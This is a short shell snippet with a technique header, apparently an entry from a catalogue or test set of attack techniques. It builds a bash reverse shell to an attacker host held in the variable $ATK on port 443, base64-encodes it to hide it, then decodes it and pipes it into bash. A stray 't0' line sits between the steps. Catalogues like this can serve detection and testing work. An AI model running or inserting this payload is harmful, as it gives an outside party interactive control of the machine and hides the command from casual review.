# SPDX-License-Identifier: MIT
# technique: the reverse shell base64-encoded and piped into bash
# level: critical
# quick: no
enc=$(printf 'bash -i >& /dev/tcp/%s/443 0>&1\n' "$ATK" | base64 -w0)
t0
echo "$enc" | base64 -d | bash
